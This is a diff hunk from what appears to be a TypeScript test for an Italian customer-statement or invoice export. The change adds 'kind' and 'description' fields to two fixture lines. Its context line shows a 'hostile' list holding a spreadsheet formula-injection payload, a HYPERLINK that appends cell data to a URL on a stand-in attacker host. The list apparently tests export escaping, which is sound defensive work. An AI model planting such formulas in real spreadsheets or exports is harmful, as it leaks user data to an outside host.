@@ -14,8 +14,8 @@ const hostile = ['=HYPERLINK("https://attacker.example/?x="&A1;"Fattura")', '+39
 const statementOf = (name: string, code: string, vatNumber: string, ticketNumber: string): CustomerStatement => ({
   customer: { id: 'c', code, name, vatNumber },
   lines: [
-    { workId: 'w1', workAt: '2026-11-23T09:00:00.000Z', ticketNumber, activity: 'Assistenza software', billedMinutes: 60, invoicedMinutes: 60, netCents: 8000, vatCents: 1760, grossCents: 9760, adjustment: false },
-    { workId: 'w2', workAt: '2026-11-24T09:00:00.000Z', ticketNumber, activity: 'Assistenza software', billedMinutes: -30, invoicedMinutes: -30, netCents: -4000, vatCents: -880, grossCents: -4880, adjustment: true },
+    { workId: 'w1', workAt: '2026-11-23T09:00:00.000Z', ticketNumber, activity: 'Assistenza software', kind: 'work', description: null, billedMinutes: 60, invoicedMinutes: 60, netCents: 8000, vatCents: 1760, grossCents: 9760, adjustment: false },
+    { workId: 'w2', workAt: '2026-11-24T09:00:00.000Z', ticketNumber, activity: 'Assistenza software', kind: 'work', description: null, billedMinutes: -30, invoicedMinutes: -30, netCents: -4000, vatCents: -880, grossCents: -4880, adjustment: true },
   ],
   draws: { freeMinutes: 0, packages: [] },
   totals: { invoicedMinutes: 30, netCents: 4000, vatCents: 880, grossCents: 4880 },
